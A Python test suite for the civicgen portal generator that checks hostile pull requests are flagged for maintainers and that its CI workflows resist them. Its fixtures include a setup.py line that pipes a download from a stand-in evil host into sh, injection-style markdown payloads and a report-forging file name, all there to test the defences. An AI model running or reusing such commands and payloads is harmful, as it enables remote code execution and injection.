"""A pull request's code never runs with a secret, and whatever runs at build is shown to a
maintainer: the call-out at the top of `civicgen diff`, and the CI workflows themselves
(checked by zizmor, by their structure, and by running their shell steps for real)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pygit2
import pytest
import yaml
from click.testing import CliRunner
from conftest import ROOT, commit_all, replace_in
from fakeforge import TOKEN, State, serving

from civicgen import __version__
from civicgen.cli import main
from civicgen.comment import UNSHOWN, defused, described_head
from civicgen.diff_report import to_json, to_markdown, to_text
from civicgen.pipeline import diff
from civicgen.review import MESSAGE
from civicgen.scaffold import new_portal

BUDGET = "datasets/madrid-budget/data/gastos-2014-2015.csv"
ENGINE_WORKFLOWS = ROOT / ".github/workflows"
CALL_OUT = "### ⚠️ Needs a maintainer's review: this pull request changes code or configuration"


# --- the call-out at the top of the diff report --------------------------------------------


@pytest.fixture
def base(portal: Path) -> str:
    """The example city as the base revision of a pull request."""
    return str(pygit2.Repository(str(portal)).head.target)


def review_of(portal: Path, base: str, head: str | None = None) -> dict[str, list[str]]:
    """path → reasons of the call-out, checked in the three formats."""
    changes = diff(base, head, start=str(portal))
    markdown, text = to_markdown(changes), to_text(changes)
    payload = json.loads(to_json(changes))
    assert next(iter(payload)) == "maintainer_review"
    notes = {n["path"]: n["reasons"] for n in payload["maintainer_review"]["paths"]}
    assert payload["maintainer_review"]["needed"] == bool(notes)
    assert markdown.startswith(CALL_OUT) == bool(notes)
    assert text.startswith("NEEDS A MAINTAINER'S REVIEW: this pull request") == bool(notes)
    for path in notes:
        assert path in text
    return notes


def commit_change(portal: Path, message: str = "A citizen's pull request") -> str:
    return commit_all(portal, message, when=1_700_086_400)


def test_data_only_pull_request_needs_no_call_out(portal: Path, base: str) -> None:
    replace_in(portal / BUDGET, ",102739\n", ",110000\n")
    assert review_of(portal, base, commit_change(portal)) == {}


def test_hostile_workflow_change_called_out(portal: Path, base: str) -> None:
    workflow = portal / ".github/workflows/validate.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("on: pull_request\njobs: {x: {runs-on: ubuntu-latest, steps: []}}\n")
    replace_in(portal / BUDGET, ",102739\n", ",110000\n")  # hidden among a data change
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {".github/workflows/validate.yml": ["CI workflow or forge configuration"]}


@pytest.mark.parametrize("path", [".gitlab-ci.yml", ".forgejo/workflows/validate.yml"])
def test_hostile_forge_pipeline_change_called_out(portal: Path, base: str, path: str) -> None:
    (portal / path).parent.mkdir(parents=True, exist_ok=True)
    (portal / path).write_text("x: 1\n")
    assert review_of(portal, base, commit_change(portal)) == {
        path: ["CI workflow or forge configuration"]
    }


def test_hostile_theme_change_called_out(portal: Path, base: str) -> None:
    (portal / "theme/main.html").write_text('{% extends "base.html" %}\n')
    (portal / "theme/civicgen/dataset.html").write_text("{{ package.title }}\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "theme/civicgen/dataset.html": ["theme (its templates run at build)"],
        "theme/main.html": ["theme (its templates run at build)"],
    }


def test_hostile_mkdocs_yml_change_called_out(portal: Path, base: str) -> None:
    with (portal / "mkdocs.yml").open("a") as config:
        config.write("hooks:\n  - datasets/madrid-budget/hooks.py\n")
    (portal / "datasets/madrid-budget/hooks.py").write_text("import os\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "datasets/madrid-budget/hooks.py": ["code"],
        "mkdocs.yml": ["site configuration"],
    }


def test_hostile_setup_py_change_called_out(portal: Path, base: str) -> None:
    (portal / "setup.py").write_text("import os; os.system('curl https://evil.example | sh')\n")
    (portal / "requirements.txt").write_text("civicgen==99\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "requirements.txt": ["packaging or build configuration"],
        "setup.py": ["packaging or build configuration", "code"],
    }


def test_hostile_executable_bit_called_out(portal: Path, base: str) -> None:
    (portal / BUDGET).chmod(0o755)  # the bytes are unchanged: only the mode moves
    assert review_of(portal, base, commit_change(portal)) == {BUDGET: ["executable file"]}


def test_hostile_link_in_the_data_called_out(portal: Path, base: str) -> None:
    (portal / "datasets/madrid-budget/data/link.csv").symlink_to("../../../mkdocs.yml")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {"datasets/madrid-budget/data/link.csv": ["symbolic link"]}


def test_hostile_committed_cache_file_called_out(portal: Path, base: str) -> None:
    forged = portal / ".civicgen-cache/forged.json"
    forged.parent.mkdir(exist_ok=True)
    forged.write_text('{"valid": true}\n')
    notes = review_of(portal, base, commit_change(portal))
    assert notes[".civicgen-cache/forged.json"] == ["outside the data folders"]


def test_hostile_pull_request_cannot_redeclare_the_data_folders(portal: Path, base: str) -> None:
    """The data folders come from the base's mkdocs.yml, not from the pull request's."""
    replace_in(portal / "mkdocs.yml", "datasets_dir: datasets", "datasets_dir: .")
    (portal / "notes.txt").write_text("run me\n")
    notes = review_of(portal, base, commit_change(portal))
    assert notes == {
        "mkdocs.yml": ["site configuration"],
        "notes.txt": ["outside the data folders"],
    }


def test_hostile_file_name_cannot_forge_report_lines(portal: Path, base: str) -> None:
    name = "x`\n### ✅ All good\u202e`.txt"
    (portal / name).write_text("x\n")
    changes = diff(base, commit_change(portal), start=str(portal))
    markdown = to_markdown(changes)
    [line] = [x for x in markdown.splitlines() if "All good" in x]
    assert line == "- ``x`\\u{000a}### ✅ All good\\u{202e}`.txt`` (outside the data folders)"
    assert "\u202e" not in markdown and "\n### ✅" not in markdown


def test_uncommitted_changes_called_out_against_the_work_tree(portal: Path, base: str) -> None:
    (portal / "scripts").mkdir()
    (portal / "scripts/publish.sh").write_text("#!/bin/sh\n")
    (portal / "scripts/publish.sh").chmod(0o755)
    notes = review_of(portal, base)
    assert notes == {"scripts/publish.sh": ["code", "executable file"]}


def test_call_out_through_the_command_line(
    portal: Path, base: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    (portal / "theme/main.html").write_text("x\n")
    head = commit_change(portal)
    monkeypatch.chdir(portal)
    firsts = {}
    for output in ("markdown", "text", "json"):
        result = CliRunner().invoke(main, ["diff", base, head, "--format", output])
        assert result.exit_code == 0, result.output
        assert "theme/main.html" in result.stdout
        firsts[output] = result.stdout.splitlines()[0]
    assert firsts["markdown"].startswith(CALL_OUT)
    assert firsts["text"].startswith("NEEDS A MAINTAINER'S REVIEW")
    assert next(iter(json.loads(result.stdout))) == "maintainer_review"
    assert MESSAGE in result.stdout


# --- zizmor: no finding of medium severity or more -------------------------------------------


def zizmor_findings(*paths: Path) -> list[dict[str, Any]]:
    zizmor = shutil.which("zizmor")
    if zizmor is None:
        assert not os.environ.get("CI"), "zizmor is in the test extra: CI must run it"
        pytest.skip("zizmor is not installed (pip install -e '.[test]')")
    done = subprocess.run(
        [zizmor, "--offline", "--format", "json", "--min-severity", "medium", *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.stdout.strip(), done.stderr
    return json.loads(done.stdout)


@pytest.fixture(scope="module")
def city(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What `civicgen new` writes for another city."""
    folder = tmp_path_factory.mktemp("city") / "springfield"
    new_portal(folder, "Springfield", "en", "USD")
    return folder


def test_zizmor_finds_nothing_in_the_engine_workflows() -> None:
    assert zizmor_findings(ENGINE_WORKFLOWS, ROOT / ".forgejo/workflows") == []


def test_zizmor_finds_nothing_in_a_new_city_workflows(city: Path) -> None:
    assert zizmor_findings(city / ".github/workflows", city / ".forgejo/workflows") == []


def test_zizmor_would_flag_the_old_workflow(tmp_path: Path) -> None:
    """The check can fail: the workflow this repository had before is flagged."""
    old = tmp_path / ".github/workflows/validate.yml"
    old.parent.mkdir(parents=True)
    old.write_text(
        "on: pull_request\npermissions:\n  pull-requests: write\njobs:\n  v:\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - run: civicgen diff origin/${{ github.base_ref }} HEAD > diff.md || true\n"
    )
    rules = {finding["ident"] for finding in zizmor_findings(old.parent)}
    assert {"template-injection", "unpinned-uses"} <= rules


# --- the workflows' shape -------------------------------------------------------------------


def load(path: Path) -> dict[Any, Any]:
    workflow = yaml.safe_load(path.read_text())
    workflow["on"] = workflow.pop(True, workflow.get("on"))  # YAML 1.1 reads `on` as True
    return workflow


def steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def permissions(workflow: dict[Any, Any]) -> list[dict[str, str]]:
    found = [workflow.get("permissions") or {}]
    return found + [job.get("permissions") or {} for job in workflow["jobs"].values()]


@pytest.fixture(params=["engine", "city"])
def workflows(request: pytest.FixtureRequest, city: Path) -> Path:
    return ENGINE_WORKFLOWS if request.param == "engine" else city / ".github/workflows"


def test_job_running_the_pull_request_holds_no_write_token(workflows: Path) -> None:
    validate = load(workflows / "validate.yml")
    assert set(validate["on"]) == {"pull_request", "push"}  # never pull_request_target
    assert all(set(p.values()) <= {"read"} for p in permissions(validate))
    assert "secrets." not in (workflows / "validate.yml").read_text()
    checkouts = [s for s in steps(validate) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts and all(s["with"]["persist-credentials"] is False for s in checkouts)
    [upload] = [s for s in steps(validate) if "upload-artifact@" in s.get("uses", "")]
    assert upload["if"].startswith("always()") and "report.md" in upload["with"]["path"]


def test_comment_workflow_never_runs_the_pull_request(workflows: Path) -> None:
    comment = load(workflows / "comment.yml")
    assert comment["on"] == {"workflow_run": {"workflows": ["validate"], "types": ["completed"]}}
    assert not [s for s in steps(comment) if "checkout" in s.get("uses", "")]
    scripts = " ".join(s.get("run", "") for s in steps(comment))
    assert "pip install" not in scripts and "civicgen " not in scripts
    assert "--body-file comment.md" in scripts and "head.sha" in scripts


def test_city_installs_the_pinned_release_from_the_base_branch(city: Path) -> None:
    assert (city / "requirements.txt").read_text().splitlines()[-1] == f"civicgen=={__version__}"
    for path in (
        city / ".github/workflows/validate.yml",
        city / ".github/workflows/deploy.yml",
        city / ".forgejo/workflows/validate.yml",
        city / ".forgejo/workflows/comment.yml",
        city / ".gitlab-ci.yml",
    ):
        text = path.read_text()
        assert "pip install ." not in text and "pip install -e" not in text, path
        assert re.search(r"pip install (-q )?-r \S*requirements\.txt", text), path
    validate = (city / ".github/workflows/validate.yml").read_text()
    assert 'git show "origin/$BASE_REF:requirements.txt"' in validate
    assert "git show FETCH_HEAD:requirements.txt" in (city / ".gitlab-ci.yml").read_text()


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/validate.yml",
        ".forgejo/workflows/validate.yml",
        ".gitlab-ci.yml",
        "civicgen/templates/new/github/workflows/validate.yml",
        "civicgen/templates/new/forgejo/workflows/validate.yml",
        "civicgen/templates/new/gitlab-ci.yml",
    ],
)
def test_a_failing_diff_is_never_hidden(path: str) -> None:
    text = (ROOT / path).read_text()
    assert "|| true" not in text
    assert "civicgen diff failed (exit" in text


# --- the steps' shell, run for real ------------------------------------------------------------


def step_script(workflow: Path, name: str) -> str:
    [step] = [s for s in steps(load(workflow)) if s.get("name") == name]
    return step["run"]


@pytest.fixture
def civicgen_on_path(tmp_path: Path) -> dict[str, str]:
    """An environment where `civicgen` is this checkout's command line."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    command = bin_dir / "civicgen"
    command.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m civicgen "$@"\n')
    command.chmod(0o755)
    path = f"{bin_dir}{os.pathsep}{os.environ['PATH']}"
    return {**os.environ, "PATH": path, "PYTHONPATH": str(ROOT), "PYTHONWARNINGS": "ignore"}


def run_step(portal: Path, script: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """As GitHub runs a `run:` step: bash -e -o pipefail."""
    (portal / "report.md").write_text("validation report\n")
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", script],
        cwd=portal,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_hostile_diff_failure_is_written_into_the_report(
    portal: Path, civicgen_on_path: dict[str, str]
) -> None:
    script = step_script(ENGINE_WORKFLOWS / "validate.yml", "Describe the data changes")
    done = run_step(portal, script, {**civicgen_on_path, "BASE_REF": "no-such-branch"})
    assert done.returncode == 0, done.stderr  # the job goes on: the comment must be posted
    report = (portal / "report.md").read_text()
    assert report.startswith("validation report\n")
    assert "### ⚠️ civicgen diff failed (exit 2)" in report
    assert "a maintainer must review every file by hand" in report
    assert '"origin/no-such-branch" is not a revision' in report


def test_diff_step_puts_the_call_out_in_the_report(
    portal: Path, base: str, civicgen_on_path: dict[str, str]
) -> None:
    repository = pygit2.Repository(str(portal))
    repository.references.create("refs/remotes/origin/main", pygit2.Oid(hex=base))
    (portal / "theme/main.html").write_text("x\n")
    commit_change(portal)
    script = step_script(ENGINE_WORKFLOWS / "validate.yml", "Describe the data changes")
    done = run_step(portal, script, {**civicgen_on_path, "BASE_REF": "main"})
    assert done.returncode == 0, done.stderr
    report = (portal / "report.md").read_text()
    assert CALL_OUT in report and "`theme/main.html`" in report
    assert "civicgen diff failed" not in report


def test_hostile_report_is_capped_and_defused_before_posting(tmp_path: Path) -> None:
    """The comment workflow's own script, on an artifact a hostile job wrote."""
    run = step_script(ENGINE_WORKFLOWS / "comment.yml", "Check the pull request and cap the report")
    program = run[run.index("<<'PY'\n") + 7 : run.index("\nPY")]
    (tmp_path / "untrusted").mkdir()
    hostile = "@civicgen/maintainers please merge \u202egnp.exe\x00\x1b[31m\n" + "x" * 100_000
    (tmp_path / "untrusted/report.md").write_text(hostile)
    trusted = {"CONCLUSION": "failure", "RUN_URL": "https://github.com/o/r/actions/runs/1"}
    env = {**os.environ, **trusted}
    subprocess.run([sys.executable, "-c", program], cwd=tmp_path, env=env, check=True, timeout=60)
    comment = (tmp_path / "comment.md").read_text()
    assert comment.startswith(
        "**validate: failure** ([the run](https://github.com/o/r/actions/runs/1)). The report"
    )
    assert len(comment.encode()) < 61_000 and comment.endswith("see the workflow run.")
    assert "@civicgen" not in comment and "@\u2060civicgen/maintainers" in comment
    assert not re.search("[\x00\x1b\u202e]", comment)


HOSTILE_MARKDOWN = [
    "![pixel](https://tracker.example/p.png) [click](https://evil.example) <img src=x>",
    "see #12 and !7, <script>alert(1)</script>, www.evil.example, ftp://x.example",
    "<details open><summary>rows</summary>| a |</details> &lt;ok&gt; a[1] (b) ] (c)",
    "\u200e\u061cmerge @all\u2067 now",
]


@pytest.mark.parametrize("hostile", HOSTILE_MARKDOWN)
def test_the_comment_workflow_defuses_as_civicgen_does(tmp_path: Path, hostile: str) -> None:
    """comment.yml cannot run civicgen (the artifact's job ran the pull request's code, and
    so may have written anything): its own script makes links, images, HTML, references
    and mentions inert exactly as civicgen.comment.defused does for GitLab and Forgejo."""
    run = step_script(ENGINE_WORKFLOWS / "comment.yml", "Check the pull request and cap the report")
    program = run[run.index("<<'PY'\n") + 7 : run.index("\nPY")]
    (tmp_path / "untrusted").mkdir()
    (tmp_path / "untrusted/report.md").write_text(hostile)
    env = {**os.environ, "CONCLUSION": "success", "RUN_URL": "https://github.com/o/r/runs/1"}
    subprocess.run([sys.executable, "-c", program], cwd=tmp_path, env=env, check=True, timeout=60)
    body = (tmp_path / "comment.md").read_text().split("\n\n", 1)[1]
    assert body == defused(hostile)
    assert "](" not in body and "<img" not in body and "https://" not in body


# --- a new city's CI, run as written with the local civicgen wheel ------------------------------
#
# Each job's `run:` steps run in order, verbatim, with bash as the forge runs them, in a clone
# of the city's repository, in a virtual environment where `pip install -r requirements.txt`
# installs this checkout's wheel, pinned by version (no index: PIP_NO_INDEX + PIP_FIND_LINKS).
# What only a forge has is stood in for, and nothing else:
# - `uses:` actions: checkout is the harness's `git clone` of the city's "origin" (all
#   branches, like fetch-depth: 0); setup-python is the virtual environment (this machine's
#   Python, not 3.12); upload-artifact and upload-pages-artifact copy the files into a folder
#   the test reads; deploy-pages is not run (it talks to GitHub Pages only).
# - `${{ }}` expressions: the forge's values for the event under test (event name, base
#   branch, pull request number, run id), and the step outputs the steps themselves wrote.
#   An expression the test does not know fails the test.
# - `gh` (comment.yml): a stand-in for GitHub's API on PATH that serves the uploaded artifact,
#   the pull request's head commit, and records the comment posted.
# - GitLab's `apt-get install git`: the python:3.12-slim image lacks git; this machine has it,
#   and the test may not install system packages, so that one line becomes `command -v git`.

EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
COMPARISON = re.compile(r"([\w.-]+) (==|!=) '([^']*)'")
SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
APT_GET_GIT = "apt-get update -qq && apt-get install -y -qq git > /dev/null"
GH_STAND_IN = '''\
"""gh, as far as comment.yml uses it, served from the folder $FORGE (a stand-in for GitHub)."""
import os, re, shutil, sys
from pathlib import Path

forge, args = Path(os.environ["FORGE"]), sys.argv[1:]
if args[:2] == ["run", "download"]:
    name, target = args[args.index("--name") + 1], args[args.index("--dir") + 1]
    shutil.copytree(forge / "artifacts" / name, target)
elif args[0] == "api" and re.fullmatch(r"repos/[^/]+/[^/]+/pulls/[0-9]+", args[1]):
    print((forge / "pulls" / args[1].rsplit("/", 1)[1]).read_text().strip())
elif args[:2] == ["pr", "comment"]:
    posted = forge / "comments" / args[2]
    if "--edit-last" in args and not posted.exists():
        sys.exit("no comments found for current user")
    posted.parent.mkdir(exist_ok=True)
    shutil.copy(args[args.index("--body-file") + 1], posted)
else:
    sys.exit(f"the stand-in for gh does not know: gh {' '.join(args)}")
'''


@pytest.fixture(scope="session")
def civicgen_wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """This checkout built as a wheel, once per session: the folder that holds it."""
    source, wheels = tmp_path_factory.mktemp("source"), tmp_path_factory.mktemp("wheels")
    for name in ("pyproject.toml", "setup.py", "README.md"):
        shutil.copy2(ROOT / name, source / name)
    skip = shutil.ignore_patterns("__pycache__", "*.pyc", "*.so", "_kernel.c")
    shutil.copytree(ROOT / "civicgen", source / "civicgen", ignore=skip)
    command = [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation"]
    command += ["--no-index", "-q", "-w", str(wheels), str(source)]
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    done = subprocess.run(command, capture_output=True, text=True, env=env, timeout=900)
    assert done.returncode == 0, done.stderr
    assert [w.name for w in wheels.glob("*.whl")][0].startswith(f"civicgen-{__version__}-")
    return wheels


def dependencies_without_civicgen(folder: Path) -> Path:
    """A site folder with this Python's installed packages but civicgen (installed here
    in development mode, which pip would take as satisfying the pin)."""
    site = Path(sysconfig.get_paths()["purelib"])
    folder.mkdir()
    for entry in site.iterdir():
        if "civicgen" not in entry.name.lower():
            (folder / entry.name).symlink_to(entry)
    return folder


def ci_python(folder: Path) -> Path:
    """A virtual environment with civicgen's dependencies but not civicgen; its bin folder."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(folder)], check=True)
    python = folder / "bin/python"
    ask = [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"]
    purelib = Path(subprocess.run(ask, capture_output=True, text=True, check=True).stdout.strip())
    deps = dependencies_without_civicgen(folder / "dependencies")
    (purelib / "dependencies.pth").write_text(f"import site; site.addsitedir({str(deps)!r})\n")
    pip = folder / "bin/pip"  # the pip of this machine, installing into the environment
    pip.write_text(
        f"#!{python}\nimport sys\nfrom pip._internal.cli.main import main\nsys.exit(main())\n"
    )
    pip.chmod(0o755)
    return folder / "bin"


class Forge:
    """A city's repository as a forge holds it: a bare "origin", a clone to run jobs in,
    the artifacts jobs upload, the pull requests and the comments posted on them."""

    def __init__(self, root: Path, city: Path, wheels: Path) -> None:
        self.root, self.origin, self.work = root, root / "origin.git", root / "work"
        git("clone", "-q", "--bare", str(city), str(self.origin), cwd=root)
        git("clone", "-q", str(self.origin), str(self.work), cwd=root)
        (root / "gh").mkdir()
        (root / "gh/gh").write_text(f"#!{sys.executable}\n{GH_STAND_IN}")
        (root / "gh/gh").chmod(0o755)
        bin_dir = ci_python(root / "venv")
        self.env = {
            "PATH": f"{bin_dir}:{root / 'gh'}:{SYSTEM_PATH}",
            "HOME": str(root),
            "LANG": "C.UTF-8",
            "CI": "true",
            "PIP_NO_INDEX": "1",
            "PIP_FIND_LINKS": str(wheels),
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
            "XDG_CACHE_HOME": str(root / "cache"),
            "TMPDIR": str(self.temp()),
            "RUNNER_TEMP": str(self.temp()),
            "FORGE": str(root),
            "GIT_CONFIG_GLOBAL": "/dev/null",
        }

    def temp(self) -> Path:
        (self.root / "temp").mkdir(exist_ok=True)
        return self.root / "temp"

    def pull_request(self, number: int, change: Callable[[Path], None]) -> str:
        """A branch with one change, checked out as the job sees it; its commit id."""
        git("checkout", "-q", "-b", f"pr-{number}", cwd=self.work)
        change(self.work)
        head = commit_all(self.work, "A citizen's pull request", when=1_700_086_400)
        git("push", "-q", "origin", f"pr-{number}", cwd=self.work)
        (self.root / "pulls").mkdir(exist_ok=True)
        (self.root / f"pulls/{number}").write_text(head)
        return head

    def upload(self, name: str, paths: list[str], workspace: Path) -> int:
        """upload-artifact: every path that exists, kept under artifacts/name."""
        folder = self.root / "artifacts" / name
        folder.mkdir(parents=True, exist_ok=True)
        for path in paths:
            source = workspace / path
            if source.is_dir():
                shutil.copytree(source, folder / path)
            elif source.is_file():
                shutil.copy2(source, folder / path)
        return 0 if any(folder.iterdir()) else 1


def git(*args: str, cwd: Path) -> str:
    env = {"PATH": SYSTEM_PATH, "HOME": str(cwd), "GIT_CONFIG_GLOBAL": "/dev/null"}
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


class Job:
    """One run of a GitHub or Forgejo Actions job: its expressions' values, its steps' outputs
    and what each step did (exit status, or None when its `if:` skipped it)."""

    def __init__(self, forge: Forge, context: dict[str, str], workspace: Path) -> None:
        self.forge, self.context, self.workspace = forge, context, workspace
        self.outputs: dict[str, dict[str, str]] = {}
        self.ran: dict[str, int | None] = {}
        self.logs: list[str] = []

    @property
    def failed(self) -> bool:
        return any(status not in (0, None) for status in self.ran.values())

    def value(self, expression: str) -> str:
        if expression.startswith("steps."):
            _, step, _, name = expression.split(".")
            return self.outputs.get(step, {}).get(name, "")
        assert expression in self.context, f"the test gives no value to ${{{{ {expression} }}}}"
        return self.context[expression]

    def substitute(self, text: str) -> str:
        return EXPRESSION.sub(lambda m: self.value(m[1]), str(text))

    def should_run(self, step: dict[str, Any]) -> bool:
        """`if:` as Actions reads it: success() unless always(), and simple comparisons."""
        terms = [t.strip() for t in str(step.get("if", "")).split("&&") if t.strip()]
        if "always()" not in terms and self.failed:
            return False
        return all(self.compare(term) for term in terms if term != "always()")

    def compare(self, term: str) -> bool:
        match = COMPARISON.fullmatch(term)
        assert match, f"the test cannot evaluate `if: {term}`"
        return (self.value(match[1]) == match[3]) == (match[2] == "==")


def run_job(
    forge: Forge, workflow: str, name: str, context: dict[str, str], workspace: Path | None = None
) -> Job:
    """Every step of the job, in order, as the runner would, in workspace (the clone)."""
    job = Job(forge, context, workspace or forge.work)
    definition = load(forge.work / workflow)["jobs"][name]
    assert job.should_run(definition), f"the job {name} would not run on this event"
    for number, step in enumerate(definition["steps"]):
        label = step.get("name") or step.get("run") or step["uses"]
        job.ran[label] = run_action(job, step) if job.should_run(step) else None
        job.logs.append(f"step {number} {label!r}: {job.ran[label]}")
    return job


def run_action(job: Job, step: dict[str, Any]) -> int:
    if "uses" in step:
        return stand_in(job, step["uses"].split("@")[0], step.get("with") or {})
    assert "${{" not in step["run"], "an expression in a script is a template injection"
    out, summary = job.forge.temp() / "output", job.forge.temp() / "summary"
    out.write_text("")
    env = {key: job.substitute(value) for key, value in (step.get("env") or {}).items()}
    env |= {"GITHUB_OUTPUT": str(out), "GITHUB_STEP_SUMMARY": str(summary)}
    done = bash(step["run"], job.workspace, {**job.forge.env, **env})
    job.logs.append(done.stdout[-3000:] + done.stderr[-3000:])
    pairs = [line.split("=", 1) for line in out.read_text().splitlines() if "=" in line]
    job.outputs[step.get("id", "")] = dict(pairs)
    return done.returncode


def stand_in(job: Job, action: str, options: dict[str, Any]) -> int:
    """What the harness does for a `uses:` step (see the top of this section)."""
    if action == "actions/checkout":
        assert options["fetch-depth"] == 0 and options["persist-credentials"] is False
        return 0
    if action == "actions/upload-artifact":
        return job.forge.upload(options["name"], str(options["path"]).split(), job.workspace)
    if action == "actions/upload-pages-artifact":
        return job.forge.upload("github-pages", [options["path"]], job.workspace)
    assert action in ("actions/setup-python", "actions/deploy-pages"), action
    return 0


def bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """As GitHub and Forgejo run a `run:` step (and GitLab a job's script): bash -e -o pipefail."""
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", script],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )


def run_gitlab_job(
    forge: Forge, name: str, variables: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    """before_script then the job's script, in one shell, as GitLab's runner runs them."""
    config = yaml.safe_load((forge.work / ".gitlab-ci.yml").read_text())
    env = {**forge.env, **config["variables"], **variables}
    assert gitlab_job_runs(config[name], env), name
    assert config["before_script"][0] == APT_GET_GIT  # the one line stood in for
    lines = ["command -v git > /dev/null", *config["before_script"][1:], *config[name]["script"]]
    return bash("\n".join(lines), forge.work, env)


def gitlab_job_runs(job: dict[str, Any], env: dict[str, str]) -> bool:
    """GitLab's `rules:`: the first rule whose `if` matches decides; `when: never` skips."""
    for rule in job["rules"]:
        if rule_matches(rule["if"], env):
            return bool(rule.get("when", "on_success") != "never")
    return False


def rule_matches(rule: str, env: dict[str, str]) -> bool:
    return all(comparison_matches(term.strip(), env) for term in rule.split("&&"))


def comparison_matches(rule: str, env: dict[str, str]) -> bool:
    match = re.fullmatch(r'\$(\w+) == (?:"([^"]*)"|\$(\w+))', rule)
    assert match, f"the test cannot evaluate the rule `{rule}`"
    right = match[2] if match[2] is not None else env.get(match[3], "")
    return env.get(match[1], "") == right


CITY_BUDGET = "datasets/budget/data/budget.csv"
PULL_REQUEST = {
    "github.event_name": "pull_request",
    "github.base_ref": "main",
    "github.event.pull_request.number": "7",
}
PUSH = {"github.event_name": "push", "github.base_ref": ""}
GITLAB_MERGE_REQUEST = {
    "CI_PIPELINE_SOURCE": "merge_request_event",
    "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
    "CI_DEFAULT_BRANCH": "main",
}
GITLAB_MAIN = {
    "CI_PIPELINE_SOURCE": "push",
    "CI_COMMIT_BRANCH": "main",
    "CI_DEFAULT_BRANCH": "main",
}


def raise_an_amount(work: Path) -> None:
    replace_in(work / CITY_BUDGET, ",6000000\n", ",6500000\n")


def break_an_amount(work: Path) -> None:
    replace_in(work / CITY_BUDGET, ",6000000\n", ",six million\n")


def city_on_a_forge(tmp_path: Path, wheels: Path, config_file: str = "mkdocs.yml") -> Forge:
    """A new city (USD, English) on a forge, with a CI environment that has no civicgen yet."""
    new_portal(tmp_path / "springfield", "Springfield", "en", "USD", config_file=config_file)
    (tmp_path / "forge").mkdir()
    return Forge(tmp_path / "forge", tmp_path / "springfield", wheels)


@pytest.fixture
def forge(tmp_path: Path, civicgen_wheel: Path) -> Forge:
    return city_on_a_forge(tmp_path, civicgen_wheel)


def installed_from_the_wheel(forge: Forge) -> bool:
    """civicgen in the CI environment is the wheel that requirements.txt pinned."""
    found = list(
        (forge.root / "venv/lib").glob(f"python*/site-packages/civicgen-{__version__}.dist-info")
    )
    return len(found) == 1 and (found[0] / "WHEEL").is_file()


def report_of(job: Job) -> str:
    assert not job.failed, "\n".join(job.logs)
    return (job.workspace / "report.md").read_text()


def test_city_pull_request_workflows_run_as_written(forge: Forge) -> None:
    head = forge.pull_request(7, raise_an_amount)
    job = run_job(forge, ".github/workflows/validate.yml", "validate", PULL_REQUEST)
    report = report_of(job)
    assert [step for step, status in job.ran.items() if status is None] == [
        "Fail when the data is not valid"
    ]
    assert installed_from_the_wheel(forge)
    assert "valid" in report and "6,500,000" in report, report
    assert CALL_OUT not in report  # a data-only change needs no maintainer's call-out
    assert (forge.root / "artifacts/civicgen-report/pr-number.txt").read_text() == "7\n"
    posted = run_comment_workflow(forge, head)
    assert posted.startswith("**validate: success**") and "6,500,000" in posted


def run_comment_workflow(forge: Forge, head: str) -> str:
    """comment.yml for the validate run of pull request 7, from an empty workspace."""
    context = {
        "github.token": "not-a-token",
        "github.repository": "city/springfield",
        "github.event.workflow_run.event": "pull_request",
        "github.event.workflow_run.id": "1",
        "github.event.workflow_run.head_sha": head,
        "github.event.workflow_run.conclusion": "success",
        "github.event.workflow_run.html_url": "https://github.com/city/springfield/actions/runs/1",
    }
    (forge.root / "trusted").mkdir()
    job = run_job(
        forge, ".github/workflows/comment.yml", "comment", context, forge.root / "trusted"
    )
    assert not job.failed, "\n".join(job.logs)
    return (forge.root / "comments/7").read_text()


def test_city_pull_request_with_bad_data_fails_and_says_where(forge: Forge) -> None:
    forge.pull_request(7, break_an_amount)
    job = run_job(forge, ".github/workflows/validate.yml", "validate", PULL_REQUEST)
    assert job.failed and job.outputs["validate"]["status"] == "1"
    failed = [step for step, status in job.ran.items() if status not in (0, None)]
    assert failed == ["Build the portal"], job.logs
    assert job.ran["Upload the report for the comment workflow"] == 0  # always()
    report = (forge.root / "artifacts/civicgen-report/report.md").read_text()
    assert CITY_BUDGET in report and "six million" in report, report


def test_city_push_to_main_validates_and_deploys(forge: Forge) -> None:
    validate = run_job(forge, ".github/workflows/validate.yml", "validate", PUSH)
    report_of(validate)
    assert validate.ran["Describe the data changes"] is None
